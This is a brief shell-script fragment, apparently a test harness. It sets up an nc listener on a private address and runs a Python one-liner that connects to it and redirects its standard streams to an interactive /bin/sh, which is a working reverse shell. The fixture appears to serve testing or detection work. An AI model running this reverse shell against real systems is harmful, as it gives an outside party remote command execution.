# Python connects, puts the connection in the place of its three standard descriptors and becomes a shell.
peers() { (echo id; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  timeout 5 python3 -ISc 'import socket, os
s = socket.create_connection(("10.200.1.2", 4444))
for d in range(3): os.dup2(s.fileno(), d)
os.execl("/bin/sh", "sh", "-i")'
}
